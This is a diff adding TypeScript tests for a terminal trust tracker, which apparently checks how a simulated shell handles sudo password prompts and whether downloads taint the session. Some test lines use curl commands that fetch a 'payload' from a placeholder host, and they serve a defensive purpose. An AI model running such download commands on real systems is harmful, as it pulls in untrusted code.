@@ -74,6 +74,36 @@ describe("TerminalWatch (terminal trust tracking in the episode)", () => {
     expect(s.watch.observe(page(s.vsh.screen, s.vsh.prompt(), "curl x.example"))).toEqual([]);
   });
 
+  /** The page as the workspace draws it: while sudo asks, the prompt says so and the field shows bullets. */
+  const drawn = (vsh: Vsh, typed = "") =>
+    page(vsh.screen, vsh.awaitingPassword ? "[sudo] password:" : vsh.prompt(), vsh.awaitingPassword ? "•".repeat(typed.length) : typed);
+
+  it("reads the answer to sudo's question as a password: not a command, not echoed, the screen still shown", () => {
+    const s = session();
+    const enter = (line: string) => {
+      s.watch.type(line);
+      expect(s.watch.observe(drawn(s.vsh, line))).toEqual(["scr"]);
+      s.watch.enter();
+      s.vsh.run(line);
+      return s.watch.observe(drawn(s.vsh));
+    };
+    expect(enter("sudo systemctl restart cups")).toEqual(["scr"]);
+    expect(s.vsh.awaitingPassword).toBe(true);
+    // "correct-horse" read as a command would be an unknown program, and it is not echoed.
+    expect(enter("correct-horse")).toEqual(["scr"]);
+    expect(s.vsh.awaitingPassword).toBe(false);
+    expect(s.run("ls")).toBe(true);
+  });
+
+  it("never takes a line for a password unless sudo asked right after the host's own sudo line", () => {
+    // A file that ends with sudo's question does not make the next line a secret.
+    const t = session();
+    t.vsh.state.files[`${t.home}/q.txt`] = { ...t.vsh.state.files[`${t.home}/.bashrc`]!, content: "[sudo] password for alex: " };
+    expect(t.run(`cat ${t.home}/q.txt`)).toBe(true);
+    // The next line is read as a command: a download to the screen taints.
+    expect(t.run("curl http://x.example/payload")).toBe(false);
+  });
+
   it("counts a newline in typed text as Enter", () => {
     const s = session();
     s.watch.type("curl http://x.example/p\n");
